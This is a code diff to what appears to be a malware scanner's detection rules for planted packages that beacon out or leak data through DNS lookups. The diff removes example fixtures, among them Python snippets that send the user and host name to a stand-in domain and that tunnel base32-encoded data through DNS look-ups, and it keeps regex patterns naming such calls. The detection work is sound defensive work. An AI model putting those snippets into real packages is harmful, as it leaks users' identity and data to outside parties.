@@ -12,18 +12,6 @@ export const beacon: CodeSign = {
       'The first sign of life of a package that was planted under the name of an internal one; often it calls itself research.',
       'Telemetry does it too.',
     ].join('\n'),
-    bad: {
-      files: {
-        'acme/__init__.py':
-          "import getpass, requests, socket\ndef hello():\n    who = getpass.getuser() + '.' + socket.gethostname()\n    requests.get('https://example.org/' + who)\n",
-      },
-    },
-    good: {
-      files: {
-        'acme/__init__.py':
-          "import requests, socket\ndef hello():\n    print(socket.gethostname())\n    requests.get('https://example.org/')\n",
-      },
-    },
   },
   trigger: /gethostname|getfqdn|platform\.(?:node|uname)|from platform|getuser|getlogin|uname|getcwd|getnode/,
   alsoTrigger: networkWords,
@@ -47,18 +35,6 @@ export const nameExfiltration: CodeSign = {
     strength: 'strong',
     benignRate: null,
     docs: 'Look-ups pass where connections are blocked, and whoever owns the domain reads them.',
-    bad: {
-      files: {
-        'acme/__init__.py':
-          "import base64, socket\ndef hello(data):\n    socket.gethostbyname(base64.b32encode(data).decode() + '.x.example')\n",
-      },
-    },
-    good: {
-      files: {
-        'acme/__init__.py':
-          'import socket\ndef here():\n    return socket.gethostbyname(socket.gethostname())\n',
-      },
-    },
   },
   trigger: /gethostbyname|getaddrinfo|dns\.resolver/,
   *findInCode(source) {
@@ -73,7 +49,12 @@ export const nameExfiltration: CodeSign = {
         host,
         (_, name) => name !== null && (encodes.test(name) || tellsMachine.test(name)),
       );
-      if (reached) yield { ...at(call.node), message: `${call.name}() asks for a name that carries data` };
+      if (reached)
+        yield {
+          ...at(call.node),
+          message: `${call.name}() asks for a name that carries data`,
+          ...(source.isEarly(call.node) && { strength: 'loud' }),
+        };
     }
   },
 };
